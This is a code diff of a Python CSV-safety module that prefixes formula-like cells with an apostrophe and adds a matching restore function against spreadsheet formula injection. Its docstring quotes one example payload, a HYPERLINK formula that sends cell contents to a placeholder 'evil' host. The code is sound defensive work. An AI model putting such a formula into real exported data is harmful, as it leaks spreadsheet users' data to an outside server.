@@ -4,11 +4,9 @@ formulas, and names that would forge or garble lines on a terminal.
 CSV: a cell starting with =, +, -, @, a tab or a carriage return is read by Excel, LibreOffice and
 Google Sheets as a formula (`=HYPERLINK("http://evil/?"&A1, "click")`, DDE payloads). Such a cell
 is written with a leading apostrophe, which spreadsheets show as text and do not display (OWASP's
-"CSV Injection" advice). A cell that is just a number ("-0.5", "+3", "1e-3") is left as it is.
-
-    from app.safe_csv import SafeDictWriter, safe_writer
-    writer = safe_writer(f)                 # like csv.writer(f)
-    writer = SafeDictWriter(f, fieldnames)  # like csv.DictWriter(f, fieldnames)
+"CSV Injection" advice). A cell that is just a number ("-0.5", "+3", "1e-3") is left as it is. A
+cell that already starts with an apostrophe gets one more, so `restore` gives back exactly what was
+written: the batch output is also its own resume log.
 
 Terminal: printable_name() escapes control characters (newline, carriage return, ESC and the rest
 of C0/C1), bidirectional and other invisible format characters, line separators and undecodable
@@ -17,56 +15,37 @@ visible line.
 """
 from __future__ import annotations
 
-import csv
 import os
 import re
 import unicodedata
-from typing import Any, Iterable
+from collections.abc import Mapping
+from typing import Any
 
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+_QUOTE = "'"
 _NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
 
 
-def neutralise_cell(value: Any) -> Any:
-    """`value`, with an apostrophe in front if it is a string a spreadsheet would run as a formula."""
-    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
-        return "'" + value
+def neutralise(value: Any) -> Any:
+    """`value` with an apostrophe in front if it is text a spreadsheet would run (or an apostrophe cell)."""
+    if isinstance(value, str) and value[:1] in (*FORMULA_START, _QUOTE) and not _NUMBER.fullmatch(value):
+        return _QUOTE + value
     return value
 
 
-def neutralise_row(row: Iterable[Any]) -> list[Any]:
-    return [neutralise_cell(v) for v in row]
+def restore(value: Any) -> Any:
+    """The inverse of `neutralise`, for a cell read back from a file lexdora wrote."""
+    if isinstance(value, str) and len(value) > 1 and value[0] == _QUOTE and value[1] in (*FORMULA_START, _QUOTE):
+        return value[1:]
+    return value
 
 
-class _SafeWriter:
-    """csv.writer's interface; every cell neutralised."""
-
-    def __init__(self, writer):
-        self._writer = writer
-
-    @property
-    def dialect(self):
-        return self._writer.dialect
-
-    def writerow(self, row: Iterable[Any]):
-        return self._writer.writerow(neutralise_row(row))
-
-    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
-        for row in rows:
-            self.writerow(row)
+def neutralise_row(row: Mapping) -> dict:
+    return {k: neutralise(v) for k, v in row.items()}
 
 
-def safe_writer(f, dialect: str | csv.Dialect = "excel", **fmtparams) -> _SafeWriter:
-    """csv.writer(f, ...) whose cells are neutralised."""
-    return _SafeWriter(csv.writer(f, dialect, **fmtparams))
-
-
-class SafeDictWriter(csv.DictWriter):
-    """csv.DictWriter whose cells (and header) are neutralised."""
-
-    def __init__(self, f, fieldnames, *args, **kwargs):
-        super().__init__(f, fieldnames, *args, **kwargs)
-        self.writer = _SafeWriter(self.writer)
+def restore_row(row: Mapping) -> dict:
+    return {k: restore(v) for k, v in row.items()}
 
 
 # --- names on a terminal ---------------------------------------------------------------------
